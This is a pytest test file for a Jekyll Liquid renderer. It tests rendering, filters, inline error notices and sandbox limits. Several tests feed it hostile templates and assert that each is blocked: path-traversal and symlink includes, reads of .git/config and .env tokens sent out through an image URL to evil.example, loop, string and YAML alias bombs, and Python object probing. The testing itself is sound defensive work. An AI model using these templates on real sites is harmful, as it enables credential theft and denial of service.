"""Jekyll Liquid: reader.core.render.liquid, through SiteContext (no library)."""

from __future__ import annotations

import dataclasses
import threading
from pathlib import Path

import pytest

from reader.core.article.codec import load_article
from reader.core.library.sitecontext import site_context_for
from reader.core.render.liquid import render_liquid
from reader.core.render.pipeline import render_article
from reader.core.render.sitecontext import SiteContext, TemplateLimits

SMALL = TemplateLimits(seconds=0.5)


def _site(root: Path, **kwargs) -> SiteContext:
    return SiteContext(kind="jekyll", root=root, includes_dir=root / "_includes", **kwargs)


def _render(root: Path, rel: str):
    article = load_article(root / rel)
    info = site_context_for(article)
    assert info is not None and info.context.kind == "jekyll"
    return render_article(article, site=info.context)


def test_release_post_fills_in_checksums_from_site_data(sites):
    result = _render(sites / "jekyll", "_posts/2020-10-02-ruby-2-7-2-released.md")
    body = result.body_html
    assert "6e5706d0d4ee4e1e2f883db9d768586b4d06567debea353c796ec45e8321c3d4" in body
    assert 'href="https://cache.ruby-lang.example/pub/ruby/2.7/ruby-2.7.2.tar.xz"' in body
    assert "SIZE: 16836767" in body
    assert "Maintainers: nagachika and usa." in body
    assert "{{" not in body and "{%" not in body
    # post_url: a link relative to the post that the window opens as an article
    assert '<a href="2020-03-31-ruby-2-7-1-released.md">earlier release</a>' in body
    assert result.problems == []


def test_highlight_raw_include_link_filters(sites):
    body = _render(sites / "jekyll", "_posts/2020-03-31-ruby-2-7-1-released.md").body_html
    assert "SHA256 d418483bdd0000576c1370571121a6eb24582116db0b7bb2005e90e250eae418" in body
    assert '<code class="language-ruby">def hello(name)\n  puts "Hello, #{name}"\nend' in body
    assert "Template syntax shown literally: {{ page.title }} and {% if x %}" in body
    assert '<p class="note"><strong>Note:</strong> Upgrade soon.</p>' in body
    assert "<li>nagachika (2.7 branch)</li>" in body  # an include reading site.data (JSON)
    assert "Mirrors: Japan, Brazil" in body  # CSV in a sub-folder of _data
    assert '<a href="2020-10-02-ruby-2-7-2-released.md">the 2.7.2 news</a>' in body
    assert "RUBY PROGRAMMING LANGUAGE at /en/downloads/" in body
    assert 'href="https://www.ruby-lang.example/en/"' in body
    assert "Slug: ruby-2-7-1-released. On 31 Mar 2020. a &amp; b" in body
    assert "<strong>bold</strong> text" in body  # markdownify
    assert "Latest posts: Unknown things; Hostile templates;" in body  # newest first, titled


def test_unknown_tags_filters_and_errors_are_inline_notices(sites):
    result = _render(sites / "jekyll", "_posts/2021-02-02-unknown.md")
    body = result.body_html
    assert "<p>First paragraph.</p>" in body and "<p>Last paragraph renders.</p>" in body
    notices = [(p.line, p.message) for p in result.problems]
    assert notices == [
        (7, "unknown tag 'feed_meta'"),
        (9, "unknown filter 'no_such_filter'"),
        (11, "include '../../secret.txt': outside the site"),
        (13, "include 'missing.html': not found"),
        (15, "missing expression"),
    ]
    assert all(p.severity == "warning" for p in result.problems)
    assert body.count('class="template-notice"') == 5
    assert "Liquid: unknown tag &#x27;feed_meta&#x27; (line 7)" in body or (
        "Liquid: unknown tag 'feed_meta' (line 7)" in body
    )
    assert "outside" not in body.replace("outside the site", "")  # secret.txt never read


FOLLOWS = "; what follows is shown unevaluated"


def test_hostile_templates_finish_with_notices(sites):
    article = load_article(sites / "jekyll" / "_posts" / "2021-01-01-hostile.md")
    info = site_context_for(article)
    assert info is not None
    # the default limits, but a deadline no loaded machine reaches: the other limits act
    context = dataclasses.replace(info.context, limits=TemplateLimits(seconds=60))
    result = render_article(article, site=context)
    messages = [p.message for p in result.problems]
    assert "loop iteration limit reached" in messages
    assert "include 'recursive.html': deeper than 10" in messages
    assert f"stopped: output stream limit reached{FOLLOWS}" in messages
    assert "Before the trouble." in result.body_html
    assert result.body_html.count("[again") == 10  # include depth 10
    assert len(result.body_html) < 1_200_000


def test_wall_clock_deadline(tmp_path):
    site = _site(tmp_path, limits=SMALL)
    slow = (
        "{% capture c %}{% for i in (1..99000) %}{% for j in (1..1) %}{% endfor %}"
        "{% endfor %}{% endcapture %}"
    ) * 500
    done = threading.Event()
    outcome = []

    def work():
        outcome.append(render_liquid("start " + slow + " end", site, {}))
        done.set()

    threading.Thread(target=work, daemon=True).start()
    assert done.wait(60), "the deadline did not stop the template"
    result = outcome[0]
    assert [n.message for n in result.notices] == [f"stopped: took longer than 0.5 s{FOLLOWS}"]
    assert result.text.startswith("start ")
    assert result.text.endswith(" end")  # (the rest as written: it was dropped)


def test_string_doubling_and_deep_nesting_are_bounded(tmp_path):
    site = _site(tmp_path, limits=SMALL)
    doubling = (
        '{% assign s = "xxxxxxxxxx" %}{% for i in (1..60) %}{% assign s = s | append: s %}'
        "{% endfor %}{{ s | size }} after"
    )
    result = render_liquid(doubling, site, {})
    assert {n.message for n in result.notices} & {
        "local namespace limit reached",
        "append: the result would exceed 1,000,000 bytes",
    }
    assert result.text.endswith(" after")
    nested = "{% if true %}" * 500 + "x" + "{% endif %}" * 500
    result = render_liquid(nested, site, {})
    assert result.notices  # block nesting limit: a notice, no crash


def test_include_stays_in_includes_folder(tmp_path):
    (tmp_path / "_includes").mkdir()
    (tmp_path / "_posts").mkdir()
    (tmp_path / "private.txt").write_text("PRIVATE")
    (tmp_path / "_includes" / "link.html").symlink_to(tmp_path / "private.txt")
    outside = tmp_path.parent / "outside-include.txt"
    outside.write_text("OUTSIDE")
    site = _site(tmp_path)
    for name in ("../private.txt", "link.html", str(outside), "../../outside-include.txt"):
        result = render_liquid(f"{{% include {name} %}}", site, {})
        assert "PRIVATE" not in result.text and "OUTSIDE" not in result.text
        assert len(result.notices) == 1
    (tmp_path / "_includes" / "big.html").write_text("y" * (300 * 1024))
    result = render_liquid("{% include big.html %}", site, {})
    assert "yyyy" not in result.text and "big.html" in result.notices[0].message


def test_include_relative_and_variables(tmp_path):
    (tmp_path / "_posts").mkdir()
    (tmp_path / "_posts" / "snippet.md").write_text("Snippet for {{ page.title }}")
    (tmp_path / "_includes").mkdir()
    (tmp_path / "_includes" / "greet.html").write_text("Hello {{ include.who }}!")
    site = _site(tmp_path)
    text = render_liquid(
        "{% include_relative snippet.md %} {% include greet.html who=page.author %}",
        site,
        {"title": "T", "author": "Ann"},
        article_path=tmp_path / "_posts" / "post.md",
    ).text
    assert text == "Snippet for T Hello Ann!"


def test_include_relative_never_reads_hidden_files_nor_through_links_out_of_the_folder(
    tmp_path,
):
    # a page at the site's root read .git/config (a remote's token in it) by
    # include_relative, and a link in _posts/ to it was followed: a template
    # could then put the token in a remote picture's address
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("url = https://me:TOKEN123@example.org/s.git\n")
    (tmp_path / ".env").write_text("KEY=TOKEN123\n")
    (tmp_path / "_posts").mkdir()
    (tmp_path / "_posts" / "cfg.txt").symlink_to(tmp_path / ".git" / "config")
    (tmp_path / "_posts" / "up.txt").symlink_to(tmp_path / "notes.txt")
    (tmp_path / "notes.txt").write_text("TOKEN123 outside the post's folder\n")
    (tmp_path / "_posts" / "ok.txt").write_text("sibling\n")
    (tmp_path / "_includes").mkdir()
    (tmp_path / "_includes" / ".hidden.html").write_text("TOKEN123")
    site = _site(tmp_path)
    cases = {
        (".git/config", tmp_path / "about.md"): "hidden files and folders",
        (".env", tmp_path / "about.md"): "hidden files and folders",
        ("cfg.txt", tmp_path / "_posts" / "p.md"): "outside the post's folder",
        ("up.txt", tmp_path / "_posts" / "p.md"): "outside the post's folder",
    }
    for (name, page), why in cases.items():
        template = (
            "{% capture c %}{% include_relative " + name + " %}{% endcapture %}"
            "![x](https://evil.example/?d={{ c | url_encode }})"
        )
        result = render_liquid(template, site, {}, article_path=page)
        assert "TOKEN123" not in result.text, name
        assert [why in n.message for n in result.notices] == [True], (name, result.notices)
    hidden = render_liquid("{% include .hidden.html %}", site, {})
    assert "TOKEN123" not in hidden.text and "hidden" in hidden.notices[0].message
    sibling = render_liquid(
        "{% include_relative ok.txt %}", site, {}, article_path=tmp_path / "_posts" / "p.md"
    )
    assert sibling.text == "sibling\n" and not sibling.notices


def test_jekyll_filters(tmp_path):
    site = _site(tmp_path, config={"baseurl": "/b", "url": "https://ex.org"})
    items = [{"v": "2.0", "n": 2, "tags": ["x"]}, {"v": "1.0", "n": 1, "tags": ["y"]}]
    template = (
        '{{ page.items | where: "v", "2.0" | map: "n" | join }}|'
        '{{ page.items | where: "tags", "y" | map: "v" | join }}|'
        '{{ page.items | where_exp: "i", "i.n > 1" | size }}|'
        '{{ page.items | sort: "n" | map: "v" | join: "," }}|'
        '{{ "2021-04-16" | date: "%Y/%m" }}|{{ "2021-04-01" | date_to_string: "ordinal", "US" }}|'
        '{{ "a/b" | relative_url }}|{{ "a/b" | absolute_url }}|{{ "<x>" | xml_escape }}|'
        '{{ page.items | first | jsonify }}|{{ "Hello, World_2!" | slugify }}'
    )
    text = render_liquid(template, site, {"items": items}, markdownify=str.upper).text
    assert text == (
        "2|1.0|1|1.0,2.0|2021/04|Apr 1st, 2021|/b/a/b|https://ex.org/b/a/b|&lt;x&gt;|"
        '{"v": "2.0", "n": 2, "tags": ["x"]}|hello-world-2'
    )
    assert render_liquid("{{ 'a' | markdownify }}", site, {}, markdownify=str.upper).text == "A"


def test_no_python_objects_reachable(tmp_path):
    site = _site(tmp_path)
    result = render_liquid(
        "{{ page.__class__ }}{{ page.title.__class__.__mro__ }}{{ site.__init__ }}", site, {}
    )
    assert "class" not in result.text and "object" not in result.text


def test_articles_without_templates_skip_the_engine(sites):
    article = load_article(sites / "jekyll" / "_posts" / "2021-02-02-unknown.md")
    plain = article.body.split("{%")[0]
    site = site_context_for(article)
    assert site is not None
    text = render_liquid(plain, site.context, {}).text
    assert text == plain


def test_common_plugin_tags_render_like_hexo_and_others_are_named(tmp_path):
    site = _site(tmp_path)
    result = render_liquid("{% gist parkr/931c1c8d465a04042403 %} {% seo %}", site, {})
    html = result.restore(result.text)
    assert 'href="https://gist.github.com/parkr/931c1c8d465a04042403"' in html
    assert [n.message for n in result.notices] == ["unknown tag 'seo'"]


def test_notices_are_capped(tmp_path):
    site = _site(tmp_path)
    result = render_liquid("{% nope %}\n" * 1000 + "end", site, {})
    assert len(result.notices) == 100
    assert result.text.endswith("end")


def test_unclosed_blocks_and_delimiters_do_not_swallow_the_post(tmp_path):
    site = _site(tmp_path)
    cases = {
        "a\n{% highlight ruby %}\ncode\nrest": ("'highlight' is never closed", "code\nrest"),
        "a\n{% if x %}\nrest": ("'if' is never closed", "rest"),
        "a {% raw %} rest": ("'raw' is never closed", " rest"),
        "a {{ unclosed rest": ("'{{' is never closed", "{{ unclosed rest"),
        "a {% unclosed rest": ("'{%' is never closed", "{% unclosed rest"),
        "{% render 'x' %} rest": ("unknown tag 'render'", " rest"),
    }
    for source, (message, tail) in cases.items():
        result = render_liquid(source, site, {})
        assert [n.message for n in result.notices] == [message], source
        assert result.restore(result.text).endswith(tail), source


def test_an_unclosed_raw_or_comment_leaves_later_unclosed_blocks_no_text_to_swallow(tmp_path):
    # the scan stopped at the unclosed raw: the unclosed if after it, Liquid
    # again once the raw was set aside, swallowed the rest of the post
    site = _site(tmp_path)
    for opener in ("{% raw %}", "{% comment %}"):
        source = f"a1 {opener} rawA\na3 {{% if true %}} ifword\na5 lastword {{% for x in y %}} z"
        result = render_liquid(source, site, {})
        name = opener.split()[1]
        assert [(n.message, n.line) for n in result.notices] == [
            (f"'{name}' is never closed", 1),
            ("'if' is never closed", 2),
            ("'for' is never closed", 3),
        ], opener
        text = result.restore(result.text)
        for word in ("a1", "rawA", "a3", "ifword", "a5", "lastword", " z"):
            assert word in text, (opener, word)


def test_raw_keeps_tags_literal_and_balanced_blocks_work(tmp_path):
    site = _site(tmp_path)
    result = render_liquid(
        "{% raw %}{% if %}{% endraw %} ok {% if true %}a{% if false %}b{% endif %}c{% endif %}",
        site,
        {},
    )
    assert result.text == "{% if %} ok ac" and result.notices == []


def test_render_with_liquid_false_is_left_alone(sites):
    post = sites / "jekyll" / "_posts" / "2022-01-01-literal.md"
    post.write_text("---\ntitle: Literal\nrender_with_liquid: false\n---\nShow {{ this }}.\n")
    assert "Show {{ this }}." in _render(sites / "jekyll", "_posts/2022-01-01-literal.md").body_html


def test_an_error_inside_a_block_stops_only_that_statement(tmp_path):
    site = _site(tmp_path)
    result = render_liquid(
        "{% if true %}a {{ 'x' | nofilter }} b{% endif %}|"
        "{% for i in (1..3) %}{{ i | divided_by: 0 }}{{ i }}{% endfor %}|"
        "{% for i in (1..5) %}{% if i == 3 %}{% break %}{% endif %}{{ i }}{% endfor %}",
        site,
        {},
    )
    html = result.restore(result.text)
    assert html.endswith(" b|" + html.split("|")[1] + "|12")
    assert html.split("|")[1].endswith("(line 1)</span>123")  # one notice for the three
    assert [n.message for n in result.notices] == [
        "unknown filter 'nofilter'",
        "divided_by: can't divide by 0",
    ]


def test_filters_cannot_build_huge_strings_in_memory(tmp_path):
    site = _site(tmp_path)
    big = (
        '{% assign s = "xxxxxxxxxx" %}{% for i in (1..16) %}{% assign s = s | append: s %}'
        "{% endfor %}"
    )
    for expression, name in (
        ('s | replace: "x", s', "replace"),
        ('s | split: "" | join: s', "join"),
        ("s" + " | append: s" * 3000, "append"),
    ):
        result = render_liquid(big + "{{ " + expression + " | size }} after", site, {})
        assert result.text.endswith(" after")
        assert f"{name}: the result would exceed 1,000,000 bytes" in [
            n.message for n in result.notices
        ]


def test_huge_ranges_are_refused_before_they_are_built(tmp_path):
    site = _site(tmp_path)
    for source, message in (
        ("{% for i in (1..100000000) reversed %}{% endfor %}", "loop iteration limit reached"),
        ("{{ (1..100000000) | join | size }}", "join: a range of more than 1,000,000 items"),
        ('{{ (1..100000000) | map: "x" | size }}', "map: a range of more than 1,000,000 items"),
    ):
        result = render_liquid(source + " after", site, {})
        assert result.text.endswith(" after"), source
        assert [n.message for n in result.notices] == [message], source
    result = render_liquid("{% for i in (1..1000000000) limit: 3 %}{{ i }}{% endfor %}", site, {})
    assert result.text == "123" and result.notices == []


def _alias_bomb_yaml() -> str:
    lines = ["title: T", "a: &a [x, x, x, x, x, x, x, x, x]"]
    for level in range(1, 9):
        name, previous = chr(97 + level), chr(96 + level)
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_printing_a_huge_shared_value_is_refused(tmp_path):
    # 9**8 items sharing one list (as YAML aliases make): jsonify and join
    # printed them in C, past the deadline, using 1.4 GB
    row = ["x"] * 9
    for _level in range(8):
        row = [row] * 9
    # no deadline to reach first on a loaded machine: the item limit is what is tested
    site = SiteContext(
        kind="jekyll", root=tmp_path, data={"bomb": row}, limits=TemplateLimits(seconds=600)
    )
    for source in ("{{ site.data.bomb | jsonify }}", "{{ site.data.bomb | join: ',' }}"):
        result = render_liquid(source + " after", site, {})
        assert result.text.endswith(" after")
        assert any("a value of more than 1,000,000 items" in n.message for n in result.notices)


def test_alias_bombs_in_the_configuration_and_data_are_reported_not_used(tmp_path):
    (tmp_path / "_posts").mkdir()
    (tmp_path / "_data").mkdir()
    (tmp_path / "_config.yml").write_text(_alias_bomb_yaml())
    (tmp_path / "_data" / "bomb.yml").write_text(_alias_bomb_yaml())
    post = tmp_path / "_posts" / "2020-01-01-bomb.md"
    post.write_text("---\ntitle: p\n---\n{{ site.i }}{{ site.data.bomb.i }} after\n")
    info = site_context_for(load_article(post))
    assert info is not None
    assert any("_config.yml: the configuration expands to more than" in p for p in info.problems)
    assert any(p.startswith(str(tmp_path / "_data" / "bomb.yml")) for p in info.problems), (
        info.problems
    )
    body = render_article(load_article(post), site=info.context).body_html
    assert "after" in body


def test_a_long_post_is_not_cut_at_the_output_limit(tmp_path):
    # The output limit stops templates that multiply text, not long posts: the
    # end of a 1.5 MB post with one tag is shown, and no limit is reported.
    site = _site(tmp_path, limits=TemplateLimits(seconds=60))
    paragraph = "A paragraph of the long archive, kept whole. " * 20 + "\n\n"
    body = "{{ page.title }}\n\n" + paragraph * (1_500_000 // len(paragraph)) + "THE END"
    result = render_liquid(body, site, {"title": "Long"})
    assert result.notices == []
    assert result.text.startswith("Long\n\n")
    assert result.text.endswith("THE END")
    assert len(result.text) == len(body) - len("{{ page.title }}") + len("Long")


def test_a_long_post_still_bounds_a_loop_that_multiplies_it(tmp_path):
    site = _site(tmp_path, limits=TemplateLimits(seconds=60))
    filler = "x" * 1_200_000
    loop = "{% for i in (1..1000) %}" + "y" * 10_000 + "{% endfor %}"
    result = render_liquid(filler + loop + " after", site, {})
    assert [n.message for n in result.notices] == [f"stopped: output stream limit reached{FOLLOWS}"]
    assert result.text.endswith(" after")
    # the limit: twice the post's length, rounded up to a power of two
    assert len(result.text) < 1 << 23


def test_jsonify_writes_keys_that_are_dates_as_text(tmp_path):
    # "jsonify: keys must be str, int, float, bool or None, not datetime.date"
    from datetime import date

    page = {"m": {date(2024, 1, 1): "x", True: 1}}
    result = render_liquid("{{ page.m | jsonify }}", _site(tmp_path), page)
    assert result.text == '{"2024-01-01": "x", "true": 1}' and not result.notices


def test_a_capture_over_the_output_limit_stops_alone_and_the_post_goes_on(tmp_path):
    # a doubling capture over the limit dropped the rest of the post
    site = _site(tmp_path, limits=TemplateLimits(seconds=60, output_bytes=64 * 1024))
    doubling = "{% capture c %}{{ c }}{{ c }}{% endcapture %}" * 30
    result = render_liquid(
        "Before.\n{% capture c %}xx{% endcapture %}" + doubling + "\nAfter {{ 1 | plus: 1 }}.",
        site,
        {},
    )
    assert result.text.startswith("Before.\n") and result.text.endswith("After 2.")
    assert result.notices and all(
        n.message == "stopped: output stream limit reached" for n in result.notices
    )
    # the page's own output over the limit still stops the page: what
    # follows is shown as written ({{ 1 | plus: 1 }} unevaluated)
    page = render_liquid(
        "{% for i in (1..100) %}" + "y" * 10_000 + "{% endfor %} after {{ 1 | plus: 1 }}", site, {}
    )
    assert page.text.endswith(" after {{ 1 | plus: 1 }}")
    assert [n.message for n in page.notices] == [f"stopped: output stream limit reached{FOLLOWS}"]


def test_the_text_that_went_over_the_output_limit_is_shown_as_written(tmp_path):
    # (review) the statement that crossed the limit wrote nothing and was
    # left out of what is shown unevaluated: the author's paragraph was gone
    site = _site(tmp_path)
    loop = "{% for i in (1..100) %}" + "y" * 10_000 + "{% endfor %}"
    source = loop + "\n\nThe paragraph the author wrote.\n\n{{ page.title }}\n\nLast line."
    result = render_liquid(source, site, {"title": "T"})
    assert [n.message for n in result.notices] == [f"stopped: output stream limit reached{FOLLOWS}"]
    assert result.text.endswith("The paragraph the author wrote.\n\n{{ page.title }}\n\nLast line.")


def test_a_nil_filter_argument_is_empty_text_as_in_ruby(tmp_path):
    # python-liquid wrote "None": "xNone / aNoneb" where Jekyll writes "x / ab"
    page = {"title": "x", "subtitle": None, "tags": ["a", "b"], "gaps": ["a", None, "b"]}
    source = (
        "{{ page.title | append: page.subtitle }} / {{ page.tags | join: page.subtitle }}|"
        "{{ 'x' | prepend: nil }}|{{ 'x' | replace: 'x', nil }}|"
        "{{ 'xax' | replace_first: 'x', nil }}|{{ 'xax' | replace_last: 'x', nil }}|"
        "{{ 'xax' | remove: nil }}|{{ 'abcdefgh' | truncate: 5, nil }}|"
        "{{ 'a b c' | truncatewords: 2, nil }}|{{ 'ab' | split: nil | join: '-' }}|"
        "{{ page.gaps | join: '-' }}|{{ page.tags | array_to_sentence_string: nil }}"
    )
    result = render_liquid(source, _site(tmp_path), page)
    assert result.text == "x / ab|x||ax|xa|xax|abcde|a b|a-b|a--b|a  b"
    assert not result.notices


def test_filters_of_text_write_true_and_lists_as_ruby_does(tmp_path):
    # (never a Python repr: "True", "['a', 'b']")
    page = {"flag": True, "tags": ["a", "b"], "nested": [["a", "b"], "c"]}
    source = (
        "{{ page.flag | append: '!' }}|{{ 'x' | append: page.flag }}|"
        "{{ page.tags | append: '!' }}|{{ 'x' | prepend: page.tags }}|"
        "{{ page.nested | join: '-' }}|{{ (1..3) | append: '!' }}"
    )
    result = render_liquid(source, _site(tmp_path), page)
    assert result.text == 'true!|xtrue|["a", "b"]!|["a", "b"]x|a-b-c|1..3!'


def test_a_number_too_long_to_print_is_a_short_notice(tmp_path):
    # "Exceeds the limit (4300 digits) for integer string conversion; use
    # sys.set_int_max_str_digits() to increase the limit" was on the page
    source = (
        "{% assign n = 10 %}{% for i in (1..13) %}{% assign n = n | times: n %}{% endfor %}"
        "{{ n | size }}\n{{ page.digits | plus: 0 }}"
    )
    result = render_liquid(source, _site(tmp_path), {"digits": 5000})
    notices = [(n.line, n.message) for n in result.notices]
    assert notices == [(1, "times: the result would be a number of more than 4,300 digits")]
    assert "sys." not in result.restore(result.text)
    # the number kept (10**4096) is printed, and numbers below the cap still work
    printed = render_liquid(source + "{{ n }}", _site(tmp_path), {"digits": 5000})
    assert printed.text.endswith("5000" + "1" + "0" * 4096)


def test_a_number_python_refuses_to_write_is_said_in_the_project_s_words():
    from reader.core.render.liquid import _python_error

    with pytest.raises(ValueError) as raised:
        str(10**5000)
    assert _python_error(raised.value) == "a number of more than 4,300 digits"


def test_absolute_url_with_a_site_url_that_is_no_text_is_as_if_unset(tmp_path):
    # url: {a: 1} wrote "{'a': 1}/a", a Python repr
    site = _site(tmp_path, config={"url": {"a": 1}, "baseurl": ["x"]})
    result = render_liquid("{{ 'a' | absolute_url }}|{{ 'a' | relative_url }}", site, {})
    assert result.text == "/a|/a" and not result.notices
    numbers = _site(tmp_path, config={"url": "https://ex.org", "baseurl": 2024})
    assert render_liquid("{{ 'a' | absolute_url }}", numbers, {}).text == "https://ex.org/2024/a"


def test_a_highlight_in_a_list_item_stays_in_the_item(tmp_path):
    # (review) the Liquid block's placeholder ended the list it was written in
    from tests.core.test_render import _LIST_WITH_A_BLOCK, _lists_hold_their_blocks

    (tmp_path / "_config.yml").write_text("title: t\n")
    (tmp_path / "_posts").mkdir()
    body = _LIST_WITH_A_BLOCK.format(open="{% highlight sh %}", close="{% endhighlight %}")
    (tmp_path / "_posts" / "2021-01-01-p.md").write_text(
        "---\ntitle: t\n---\n" + body, encoding="utf-8"
    )
    _lists_hold_their_blocks(_render(tmp_path, "_posts/2021-01-01-p.md").body_html)


def test_an_error_in_a_block_of_nothing_but_tags_is_shown_after_it(tmp_path):
    # (review) Liquid drops the output of a block holding only tags (assigns):
    # the error's notice went with it, reported but never on the page
    (tmp_path / "_config.yml").write_text("title: t\n")
    (tmp_path / "_posts").mkdir()
    (tmp_path / "_posts" / "2021-01-01-p.md").write_text(
        "---\ntitle: t\n---\n"
        "A {% if true %}{% assign s = 1 | divided_by: 0 %}{% endif %} B\n\n"
        "C {% for i in (1..2) %}\n{% assign t = i | divided_by: 0 %}\n{% endfor %} D\n",
        encoding="utf-8",
    )
    result = _render(tmp_path, "_posts/2021-01-01-p.md")
    body = result.body_html
    assert '<p>A <span class="template-notice">Liquid: divided_by: can\'t divide by 0' in body
    assert "(line 4)</span> B</p>" in body
    assert "(line 7)</span> D</p>" in body and body.count("template-notice") == 2
    assert [p.line for p in result.problems] == [4, 7]


def test_an_error_in_a_dropped_block_inside_a_capture_never_goes_into_its_value(tmp_path):
    # (review) the notice went into the captured text: a link's address and a
    # comparison were broken by it
    (tmp_path / "_config.yml").write_text("title: t\n")
    (tmp_path / "_posts").mkdir()
    (tmp_path / "_posts" / "2024-01-01-a.md").write_text(
        "---\ntitle: t\n---\n"
        "{% capture u %}/blog/{% if true %}{% assign n = 1 | divided_by: 0 %}{% endif %}post"
        "{% endcapture %}\n\n[the post]({{ u }})\n\n"
        "{% capture n %}{% if true %}{% assign q = 1 | divided_by: 0 %}{% endif %}3"
        '{% endcapture %}{% if n == "3" %}N is three{% else %}N is not three{% endif %}\n',
        encoding="utf-8",
    )
    body = _render(tmp_path, "_posts/2024-01-01-a.md").body_html
    assert 'href="/blog/post"' in body and "N is three" in body
    assert body.count("template-notice") == 2  # each said, after its capture
